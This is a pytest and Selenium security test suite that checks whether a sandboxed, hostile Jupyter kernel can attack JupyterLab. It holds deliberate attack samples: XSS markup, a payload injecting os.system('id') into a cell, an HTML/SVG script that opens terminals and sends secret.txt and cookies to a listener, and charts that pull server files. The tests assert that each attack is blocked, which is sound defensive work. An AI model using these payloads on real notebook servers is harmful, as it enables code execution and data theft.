"""What a hostile kernel can do to JupyterLab beside its outputs, in one session: attacks.

The kernel's code runs in the sandbox, as all code there does, and answers the page's requests as it
likes. What must hold is docs/threat-model.md, "The browser".
"""

from __future__ import annotations

import json
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest
from selenium.webdriver.common.by import By
from selenium.webdriver.common.keys import Keys

from ..sweeps import needs_all
from .conftest import IN_SANDBOXES, KERNEL
from .lab import LabPage
from .test_files import end_kernels, write_notebook
from .test_frame import SCRIPTED_PDF
from .test_media import wait_in_frame

pytestmark = IN_SANDBOXES

HOSTILE = r"""
kernel = get_ipython().kernel
MARKUP = "<img src=x onerror=\"window.attacked = 'html'\"><form action=/logout>Password</form>"

def send(kind, content, socket=None, **more):
    kernel.session.send(socket or kernel.iopub_socket, kind, content, parent=kernel.get_parent(),
        ident=kernel._topic(kind), **more)

def write(**payload):
    get_ipython().payload_manager.write_payload(payload, single=False)

def overwrite():
    write(source="set_next_input", text="import os; os.system('id')", replace=True)

def page():
    write(source="page", start=0, data={"text/html": MARKUP, "text/plain": "pager",
        "application/vnd.vega.v5+json": {}})

def edit():
    write(source="edit", filename="/etc/passwd", line_number=1)
    write(source="ask_exit", keepkernel=False)

def do_complete(code, cursor):
    if "huge" in code:
        return {"status": "ok", "matches": ["a"] * 1_000_000, "cursor_start": 0,
            "cursor_end": cursor, "metadata": {}}
    return {"status": "ok", "matches": [MARKUP, "b" * 5000, 7, "good"], "cursor_start": -5,
        "cursor_end": 10**9, "metadata": {"_jupyter_types_experimental": [
            {"text": "import os", "type": MARKUP, "start": -1, "end": 10**9}]}}

def do_inspect(code, cursor, detail_level=0, omit_sections=()):
    return {"status": "ok", "found": True, "metadata": {}, "data": {"text/html": MARKUP,
        "text/plain": "plain help", "application/vnd.jupyter.widget-view+json": {"model_id": "x"}}}

kernel.do_complete, kernel.do_inspect = do_complete, do_inspect

HOSTILE_INFO = {
    "implementation": "ipython", "implementation_version": "9", "protocol_version": "5.4",
    "status": "ok", "banner": "b" * 1_000_000, "debugger": True, "supported_features": ["debugger"],
    "help_links": [{"text": "Python Reference", "url": "http://evil.example/"},
        {"text": "x", "url": "javascript:window.attacked='link'"},
        {"text": "Python", "url": "https://docs.python.org/3"}] + [{"text": "t"}] * 1000,
    "language_info": {"name": "python", "version": "3", "mimetype": "text/x-python",
        "file_extension": "/../../.bashrc", "nbconvert_exporter": "antigravity.Exporter",
        "pygments_lexer": "../x", "codemirror_mode": {"name": "ipython", "version": 3}},
}
type(kernel).kernel_info = property(lambda self: HOSTILE_INFO)

async def debug_request(stream, ident, parent):
    request = parent["content"]
    answer = {"type": "response", "seq": 1, "request_seq": request["seq"], "success": True,
        "command": request["command"], "body": {}}
    if request["command"] == "richInspectVariables":
        answer["body"] = {"data": {"text/html": MARKUP, "text/plain": "a variable"}, "metadata": {}}
    elif request["command"] == "debugInfo":
        answer["body"] = {"isStarted": False, "hashMethod": "Murmur2", "hashSeed": 1,
            "tmpFilePrefix": "/tmp/", "tmpFileSuffix": ".py", "stoppedThreads": [],
            "breakpoints": [{"source": "s", "breakpoints": []}] * 300_000}
    kernel.session.send(stream, "debug_reply", answer, parent, ident=ident)

kernel.control_handlers["debug_request"] = debug_request
print("hostile")
"""

KERNEL_JS = "const kernel = jupyterapp.shell.currentWidget.sessionContext.session.kernel;"


def ask(lab: LabPage, code: str) -> Any:
    """Run the body of an async function in the page, which has ``kernel``."""
    answer = lab.driver.execute_async_script(
        f"const done = arguments[0]; {KERNEL_JS}"
        f"(async () => {{ {code} }})().then(it => done({{it}}), e => done({{error: String(e)}}));"
    )
    assert "error" not in answer, answer["error"]
    return answer.get("it")


def execute(lab: LabPage, code: str) -> dict[str, Any]:
    """Run ``code`` beside the notebook, and return the content of its reply."""
    answer: dict[str, Any] = ask(
        lab,
        f"const future = kernel.requestExecute({{code: {json.dumps(code)}}});"
        "return (await future.done).content;",
    )
    assert answer["status"] == "ok", answer
    return answer


def attacked(lab: LabPage) -> Any:
    return lab.driver.execute_script("return window.attacked ?? null")


def source_of_first_cell(lab: LabPage) -> str:
    return str(
        lab.driver.execute_script(
            "return jupyterapp.shell.currentWidget.content.widgets[0].model.sharedModel.getSource()"
        )
    )


def run_first_cell(lab: LabPage, code: str) -> None:
    """Replace the first cell's source, run it, and wait until its outputs have come."""
    answer = lab.driver.execute_async_script(
        """
        const [code, done] = arguments;
        const panel = jupyterapp.shell.currentWidget;
        panel.content.activeCellIndex = 0;
        panel.content.widgets[0].model.sharedModel.setSource(code);
        jupyterapp.commands.execute('notebook:run-cell').then(() => done(''), e => done(String(e)));
        """,
        code,
    )
    assert answer == ""


@pytest.fixture(scope="module")
def hostile(desk: LabPage) -> Iterator[LabPage]:
    """A notebook whose kernel does what it likes."""
    write_notebook(desk.server.folder / "doors.ipynb", KERNEL, "1 + 1")
    desk.open_path("doors.ipynb")
    desk.driver.set_script_timeout(60)
    desk.wait_until(
        lambda: (
            desk.driver.execute_script(
                "return jupyterapp.shell.currentWidget.sessionContext?.session?.kernel?.status"
            )
            == "idle"
        ),
        "the kernel never started",
    )
    execute(desk, HOSTILE)
    yield desk
    end_kernels(desk)


def test_no_reply_writes_into_a_cell_that_did_not_ask(hostile: LabPage) -> None:
    run_first_cell(hostile, "overwrite()")

    assert source_of_first_cell(hostile) == "overwrite()"


def test_load_writes_into_its_own_cell(hostile: LabPage) -> None:
    execute(hostile, "open('loaded.py', 'w').write('x = 41')")

    run_first_cell(hostile, "%load loaded.py")

    assert source_of_first_cell(hostile) == "# %load loaded.py\nx = 41"


def test_the_pager_shows_text(hostile: LabPage) -> None:
    payload = execute(hostile, "page()")["payload"]
    run_first_cell(hostile, "page()")

    assert payload == [{"source": "page", "start": 0, "data": {"text/plain": "pager"}}]
    assert attacked(hostile) is None


def test_no_other_payload_comes_through(hostile: LabPage) -> None:
    assert execute(hostile, "edit()")["payload"] == []


def test_only_widgets_open_a_comm(hostile: LabPage) -> None:
    ask(
        hostile,
        "window.opened = [];"
        "window.requirejs = (names, ok) => { opened.push(...names); ok({f: () => 0}); };"
        "kernel.registerCommTarget('victim', () => void opened.push('victim'));"
        "kernel.iopubMessage.connect((_, { header, content }) => {"
        "  if (header.msg_type === 'comm_open') opened.push(`message for ${content.target_name}`);"
        "});",
    )
    execute(
        hostile,
        "send('comm_open', {'comm_id': 'a', 'target_name': 'victim', 'data': {}})\n"
        "send('comm_open', {'comm_id': 'b', 'target_name': 'f', 'target_module': 'evil/module',"
        " 'data': {}})\n"
        "send('comm_open', {'comm_id': 'c', 'target_name': 'jupyter.widget', 'data': {'state': {}},"
        " 'target_module': None}, metadata={'version': '2.1.0'})",
    )

    assert ask(hostile, "return window.opened") == ["message for jupyter.widget"]


def test_a_completion_replaces_what_it_may(hostile: LabPage) -> None:
    answer = ask(
        hostile,
        "return (await kernel.requestComplete({code: 'abc', cursor_pos: 3})).content",
    )

    assert answer["matches"][-1] == "good"
    assert all(isinstance(it, str) and len(it) <= 1000 for it in answer["matches"])
    assert 0 <= answer["cursor_start"] <= answer["cursor_end"] <= 3
    assert answer["metadata"] == {}


def test_a_million_completions_are_none(hostile: LabPage) -> None:
    answer = ask(
        hostile,
        "return (await kernel.requestComplete({code: 'huge', cursor_pos: 4})).content",
    )

    assert len(answer["matches"]) <= 10_000


def test_help_is_text(hostile: LabPage) -> None:
    data = ask(
        hostile,
        "return (await kernel.requestInspect({code: 'x', cursor_pos: 1, detail_level: 0}))"
        ".content.data",
    )
    run_first_cell(hostile, "x")
    hostile.driver.execute_script(
        "const cell = jupyterapp.shell.currentWidget.content.widgets[0];"
        "jupyterapp.shell.currentWidget.content.mode = 'edit'; cell.editor.focus();"
        "cell.editor.setCursorPosition({line: 0, column: 1});"
        "jupyterapp.commands.execute('tooltip:launch-notebook')"
    )
    shown = hostile.find(".jp-Tooltip")

    assert data == {"text/plain": "plain help"}
    assert "plain help" in shown.text
    assert not shown.find_elements(By.CSS_SELECTOR, "img, form")
    hostile.find(".jp-Notebook").click()


def test_the_debugger_shows_text(hostile: LabPage) -> None:
    answer = ask(
        hostile,
        "const ask = async command => (await kernel.requestDebug("
        "  {type: 'request', seq: 1, command, arguments: {}}).done).content;"
        "return [await ask('richInspectVariables'), await ask('debugInfo')];",
    )

    assert answer[0]["body"]["data"] == {"text/plain": "a variable"}
    assert answer[1]["success"] is False
    assert "breakpoints" not in answer[1].get("body", {})


def test_a_kernel_names_no_program_of_the_host(hostile: LabPage) -> None:
    info = ask(hostile, "return (await kernel.requestKernelInfo()).content")

    assert info["language_info"] == {
        "name": "python",
        "version": "3",
        "mimetype": "text/x-python",
        "codemirror_mode": {"name": "ipython", "version": 3},
    }
    assert info["help_links"] == [{"text": "Python", "url": "https://docs.python.org/3"}]
    assert len(info["banner"]) <= 16_000


@pytest.mark.parametrize("state", ["dead", "restarting", "terminating"])
def test_a_kernel_cannot_say_that_it_is_dead(hostile: LabPage, state: str) -> None:
    execute(hostile, f"send('status', {{'execution_state': {state!r}}})")

    assert ask(hostile, "return kernel.isDisposed") is False
    assert ask(hostile, "return kernel.status") in ("idle", "busy")


def ask_for_password(lab: LabPage) -> str:
    """Run a cell that asks for a password, and type it. Return what the page shows meanwhile."""
    lab.driver.execute_script(
        """
        const panel = jupyterapp.shell.currentWidget;
        panel.content.activeCellIndex = 0;
        panel.content.widgets[0].model.sharedModel.setSource(
          "import getpass; r = getpass.getpass('JupyterLab: your password' + '\\u202e' * 9000)");
        void jupyterapp.commands.execute('notebook:run-cell');
        """
    )
    lab.find(".jp-Stdin-input").click()
    asked = lab.find(".jp-OutputArea-stdin-item").text
    lab.screenshot("question")
    lab.find(".jp-Stdin-input").send_keys("secret", Keys.ENTER)
    lab.wait_until(
        lambda: not lab.driver.find_elements(By.CSS_SELECTOR, ".jp-Stdin-input"),
        "the question stays",
    )
    return asked


def test_a_question_has_the_name_of_its_sandbox(hostile: LabPage, display_name: str) -> None:
    asked = ask_for_password(hostile)

    assert asked.startswith(f"{display_name} asks, from its sandbox.")
    assert "JupyterLab: your password" in asked
    assert "\u202e" not in asked
    assert len(asked) < 4000
    execute(hostile, "assert r == 'secret'")


# -- files, in tabs of their own and in JupyterLab -------------------------------------------------

ATTACK = """
<p>harmless</p><img src="http://127.0.0.1:%(port)d/picture">
<script>
  document.title = 'ran';
  for (const path of ['/api/terminals', '/api/kernels'])
    fetch(path, {method: 'POST', credentials: 'include', mode: 'no-cors'});
  fetch('/api/contents/secret.txt', {credentials: 'include'}).then(answer => answer.text())
    .then(text => fetch('http://127.0.0.1:%(port)d/' + encodeURIComponent(text)));
  fetch('http://127.0.0.1:%(port)d/fetched', {mode: 'no-cors'});
  try { fetch('http://127.0.0.1:%(port)d/' + document.cookie, {mode: 'no-cors'}); } catch {}
  setTimeout(() => { location = 'http://127.0.0.1:%(port)d/moved'; }, 0);
</script>
"""


@pytest.fixture(scope="module")
def listener() -> Iterator[tuple[int, list[str]]]:
    """A server on the host that is not Jupyter's; notes what it is asked for."""
    paths: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            paths.append(self.path)
            self.send_response(200)
            self.send_header("Content-Length", "0")
            self.end_headers()

        def log_message(self, format: str, *args: Any) -> None:
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        yield server.server_port, paths
        server.shutdown()
        thread.join()


def write_attacks(lab: LabPage, port: int) -> None:
    """Write what a kernel could leave in its outputs."""
    outputs = lab.server.folder / "outputs"
    outputs.mkdir(exist_ok=True)
    attack = ATTACK % {"port": port}
    (lab.server.folder / "secret.txt").write_text("secret")
    (outputs / "attack.html").write_text(attack)
    svg = f'<svg xmlns="http://www.w3.org/2000/svg"><style>@import "http://127.0.0.1:{port}/css";'
    script = attack.split("<script>")[1].split("</script>")[0]
    (outputs / "attack.svg").write_text(f"{svg}</style><script><![CDATA[{script}]]></script></svg>")
    output = {"output_type": "display_data", "metadata": {}, "data": {"text/html": attack}}
    write_notebook(outputs / "attack.ipynb", KERNEL, "1")
    document = json.loads((outputs / "attack.ipynb").read_text())
    document["cells"][0]["outputs"] = [output]
    (outputs / "attack.ipynb").write_text(json.dumps(document))


@pytest.mark.parametrize(
    "place",
    [
        *("files/outputs/attack.html", "files/outputs/attack.svg", "view/outputs/attack.html"),
        "nbconvert/html/outputs/attack.ipynb",
    ],
)
def test_a_new_tab_is_no_door(
    hostile: LabPage, listener: tuple[int, list[str]], place: str
) -> None:
    port, asked = listener
    write_attacks(hostile, port)
    driver = hostile.driver
    window = driver.current_window_handle
    terminals = hostile.server.request("GET", "api/terminals")
    asked.clear()
    token = driver.get_cookie("_xsrf")["value"]  # as JupyterLab's own links have it
    driver.switch_to.new_window("tab")
    try:
        driver.get(f"{hostile.server.url}{place}?_xsrf={token}")
        title = driver.execute_cdp_cmd("Target.getTargetInfo", {})["targetInfo"]["title"]
        driver.get(f"http://127.0.0.1:{port}/done")  # whatever was asked for before has come
    finally:
        driver.close()
        driver.switch_to.window(window)

    assert title != "ran"
    assert [path for path in asked if path != "/favicon.ico"] == ["/done"]
    assert hostile.server.request("GET", "api/terminals") == terminals


def open_with(lab: LabPage, path: str, factory: str | None = None) -> str:
    """Open a file in JupyterLab; return the class names of its document."""
    return str(
        lab.driver.execute_async_script(
            """
            const [path, factory, done] = arguments;
            jupyterapp.commands.execute('docmanager:open', {path, factory: factory ?? undefined})
              .then(widget => { window.opened = widget;
                return widget.context.ready.then(() => done(widget.node.outerHTML)) })
              .catch(error => done(String(error)));
            """,
            path,
            factory,
        )
    )


@pytest.mark.parametrize(
    ("name", "factory"),
    [
        ("attack.html", "HTML Viewer"),
        ("attack.svg", None),
        pytest.param("attack.html", None, marks=needs_all),
        pytest.param("attack.svg", "Image", marks=needs_all),
    ],
)
def test_a_file_opens_in_a_frame(
    hostile: LabPage, listener: tuple[int, list[str]], name: str, factory: str | None
) -> None:
    """Whatever viewer the person chooses: JupyterLab's would run scripts if told to trust them."""
    port, asked = listener
    write_attacks(hostile, port)
    asked.clear()
    (hostile.server.folder / "elsewhere").mkdir(exist_ok=True)
    (hostile.server.folder / "outputs" / name).rename(hostile.server.folder / "elsewhere" / name)

    assert "gk-preview" in open_with(hostile, f"elsewhere/{name}", factory)
    hostile.wait_until(  # a page that leads its frame elsewhere is ended
        lambda: hostile.driver.execute_script(
            "return opened.node.querySelector('.gk-preview :is(iframe, .gk-warning)') !== null"
        ),
        "neither a frame nor why there is none",
    )
    hostile.screenshot(f"file-{name.split('.')[1]}")
    sandboxes = hostile.driver.execute_script(
        "return [...opened.node.querySelectorAll('iframe')].map(it => it.sandbox.value)"
    )
    hostile.driver.execute_script("opened.close()")

    assert all("allow-scripts" in it and "same-origin" not in it for it in sandboxes)
    assert asked == []
    hostile.to_notebook()


@pytest.mark.parametrize(
    ("name", "factory"),
    [
        ("chart.vg.json", "Vega5"),
        pytest.param("chart.vl.json", None, marks=needs_all),
        pytest.param("chart.vl.json", "Vega-Lite5", marks=needs_all),
        pytest.param("chart.mmd", "Mermaid", marks=needs_all),
    ],
)
def test_a_chart_is_drawn_in_a_frame_and_loads_nothing(
    hostile: LabPage, listener: tuple[int, list[str]], name: str, factory: str | None
) -> None:
    """Vega would load files of the server with the person's rights, and send them elsewhere."""
    port, asked = listener
    url = f"http://127.0.0.1:{port}/chart"
    (hostile.server.folder / "secret.csv").write_text("a\n7\n")
    secret = f"{hostile.server.url}files/secret.csv"
    schema = "https://vega.github.io/schema/"
    marks = [{"type": "image", "encode": {"enter": {"url": {"value": url}}}}]
    data = [{"name": "a", "url": url}, {"name": "b", "url": secret}]
    charts = [{"data": {"url": it}, "mark": "point"} for it in (url, secret)]
    source = {
        "chart.vg.json": json.dumps(
            {
                "$schema": f"{schema}vega/v5.json",
                "data": data,
                "marks": marks,
            }
        ),
        "chart.vl.json": json.dumps({"$schema": f"{schema}vega-lite/v5.json", "hconcat": charts}),
        "chart.mmd": f"graph LR; A[\"<img src='{url}'>\"]-->B",
    }[name]
    (hostile.server.folder / name).write_text(source)
    asked.clear()

    assert "gk-preview" in open_with(hostile, name, factory)
    wait_in_frame(hostile, "return document.querySelector('canvas, svg') !== null")
    hostile.screenshot(f"file-{name}")
    asked_here = hostile.driver.execute_script(
        "return performance.getEntriesByType('resource').map(it => it.name)"
    )
    hostile.driver.execute_script("opened.close()")

    assert asked == []
    assert not [it for it in asked_here if "secret.csv" in it]
    hostile.to_notebook()


def test_a_pdf_is_drawn_in_a_frame(hostile: LabPage) -> None:
    """The browser's own viewer is not in the page of ``gvisor-kernel lab``, which stayed white."""
    (hostile.server.folder / "paper.pdf").write_bytes(SCRIPTED_PDF)

    assert "gk-preview" in open_with(hostile, "paper.pdf")
    wait_in_frame(hostile, "return document.querySelector('canvas') !== null")
    hostile.driver.execute_script("opened.close()")
    hostile.to_notebook()


def test_notebook_7_names_the_sandbox_that_asks(hostile: LabPage, display_name: str) -> None:
    hostile.driver.execute_script("jupyterapp.commands.execute('docmanager:save')")
    hostile.driver.get(f"{hostile.server.url}notebooks/doors.ipynb?token={hostile.server.token}")
    hostile.find(".jp-Notebook .jp-Cell")
    hostile.wait_until(
        lambda: (
            hostile.driver.execute_script(
                "return jupyterapp.shell.currentWidget?.sessionContext?.session?.kernel?.status"
            )
            == "idle"
        ),
        "the kernel is not there",
    )

    assert ask_for_password(hostile).startswith(f"{display_name} asks, from its sandbox.")
